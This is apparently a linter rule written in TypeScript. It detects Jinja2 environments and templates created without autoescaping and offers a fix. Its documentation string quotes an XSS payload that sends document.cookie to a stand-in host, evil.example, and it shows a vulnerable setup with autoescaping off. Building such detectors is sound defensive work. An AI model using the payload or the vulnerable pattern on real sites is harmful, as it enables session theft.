import { defineRule } from '../../engine/rule';
import type { Fix, Fixer } from '../../engine/fixer';
import type { Level, RuleContext } from '../../engine/rule';
import type { CallSite } from '../../engine/sites';
import { spellImported } from './imports';
import { moduleOf } from './settings';

const ENVIRONMENTS = new Set([
  'jinja2.Environment',
  'jinja2.environment.Environment',
  'jinja2.sandbox.SandboxedEnvironment',
  'jinja2.sandbox.ImmutableSandboxedEnvironment',
]);
const TEMPLATES = new Set(['jinja2.Template', 'jinja2.environment.Template']);
/** aiohttp-jinja2 builds its Environment with autoescaping on unless told otherwise. */
const AIOHTTP_SETUP = 'aiohttp_jinja2.setup';

/** An HTML or XML tag, comment or doctype in a template's text. */
const MARKUP = /<\s*(?:[a-zA-Z][\w:-]*|\/[a-zA-Z]|!--|!doctype)/i;

export default defineRule({
  meta: {
    id: 'PW802',
    name: 'jinja2-autoescape-false',
    title: 'Jinja2 environment or template without autoescaping',
    category: 'web',
    // Bandit B701: HIGH/HIGH when autoescape is missing or False, HIGH/MEDIUM for another value;
    // Bandit cites CWE-94. Bandit only checks Environment; a Template built from a string is
    // reported here too, with high confidence when its text is HTML and low when it is not known.
    severity: 'high',
    confidence: 'high',
    cwe: 94,
    bandit: 'B701',
    ruff: 'S701',
    fixable: true,
    fixApplicability: ['unsafe'],
    offInTests: true,
    docs: {
      what: 'Finds `jinja2.Environment(...)` (and the sandboxed environments) created without `autoescape` or with `autoescape=False`, `aiohttp_jinja2.setup(..., autoescape=False)`, and `jinja2.Template(...)` without autoescaping when its text is HTML (a literal containing tags) or not known. `autoescape=True`, `select_autoescape(...)` and an autoescape function are accepted; an Environment whose `**options` may set it is reported with low confidence. Templates whose literal text is not markup (emails in plain text, configuration files) are not reported.',
      why: 'Jinja2 does not escape by default: `{{ comment }}` copies the value into the page as it is, so a comment containing `<script>fetch("https://evil.example/?c="+document.cookie)</script>` runs in every visitor\'s browser (stored cross-site scripting) and can steal sessions or act as the user. Flask turns autoescaping on for its own templates, but an `Environment` you create yourself starts with it off.',
      example: 'from jinja2 import Environment, FileSystemLoader\n\nenv = Environment(loader=FileSystemLoader("templates"))\npage = env.get_template("comment.html").render(comment=comment)',
      safe: 'from jinja2 import Environment, FileSystemLoader, select_autoescape\n\nenv = Environment(loader=FileSystemLoader("templates"), autoescape=select_autoescape())\npage = env.get_template("comment.html").render(comment=comment)',
      references: [
        'https://cwe.mitre.org/data/definitions/94.html',
        'https://cwe.mitre.org/data/definitions/79.html',
        'https://jinja.palletsprojects.com/en/stable/api/#autoescaping',
        'https://jinja.palletsprojects.com/en/stable/api/#jinja2.select_autoescape',
        'https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html',
      ],
    },
  },
  calls: [...ENVIRONMENTS, ...TEMPLATES, AIOHTTP_SETUP],

  checkCall(call, context) {
    const name = call.qualifiedName!;
    if (name === AIOHTTP_SETUP && !call.keyword('autoescape')) return;
    const isTemplate = TEMPLATES.has(name);
    // A Template and aiohttp-jinja2's setup take `autoescape=True`; an Environment a policy function.
    const takesTrue = isTemplate || name === AIOHTTP_SETUP;
    let confidence: Level | undefined;
    if (isTemplate) {
      const source = call.argument(0, 'source');
      if (!source) return;
      const text = context.model.literal(source.value)?.value;
      if (typeof text === 'string' && !MARKUP.test(text)) return;
      if (typeof text !== 'string') confidence = 'low';
    }
    const written = call.callee.text;
    const autoescape = call.keyword('autoescape');
    const advice = takesTrue ? '`autoescape=True`' : '`autoescape=select_autoescape()`';
    if (!autoescape) {
      if (call.hasStarKwargs) confidence = 'low';
      context.report(call.node, {
        message: `\`${written}\` has no \`autoescape\`, so Jinja2 does not escape (XSS); pass ${advice}.`,
        confidence,
        fix: call.hasStarKwargs ? undefined : (fixer) => autoescapeFix(call, takesTrue, context, fixer),
      });
      return;
    }
    const value = autoescape.value;
    const literal = context.model.literal(value);
    if (literal?.value === true) return;
    if (literal?.value === false || literal?.value === null) {
      context.report(autoescape.node, {
        message: `\`${autoescape.node.text}\` turns autoescaping off, so \`<script>\` in values runs (XSS); use ${advice}.`,
        confidence,
        fix: (fixer) => autoescapeFix(call, takesTrue, context, fixer),
      });
      return;
    }
    // `select_autoescape(...)`, a function of the project's own, a lambda: a deliberate policy.
    if (value.type === 'lambda') return;
    if (value.type === 'call') {
      const fn = value.childForFieldName('function');
      if (fn && context.model.resolve(fn) === 'jinja2.select_autoescape') return;
    }
    if (value.type === 'identifier' && context.model.lookup(value.text, value)?.kind === 'def') return;
    context.report(autoescape.node, {
      message: `Autoescaping depends on \`${value.text}\`; if it is false, values are not escaped (XSS); make sure it is true for HTML.`,
      confidence: 'low',
    });
  },
});

/**
 * Environment: `autoescape=select_autoescape()` (escapes `.html`, `.htm`, `.xml` templates and
 * strings), spelled in the file's import style. Template: `autoescape=True`. Not preferred: values
 * that hold HTML on purpose must then be marked `|safe`.
 */
function autoescapeFix(call: CallSite, isTemplate: boolean, context: RuleContext, fixer: Fixer): Fix[] {
  if (!call.argumentList) return [];
  if (isTemplate) return [fixer.unsafe('Set autoescape=True', 'values holding HTML on purpose are escaped too', fixer.setKeyword(call, 'autoescape', 'True'))];
  const spelled = spellImported('jinja2.select_autoescape', call.node, moduleOf(call.node), context, fixer);
  if (!spelled) return [];
  return [fixer.unsafe('Use autoescape=select_autoescape()', 'values holding HTML on purpose are escaped too', [...spelled.edits, fixer.setKeyword(call, 'autoescape', `${spelled.text}()`)])];
}
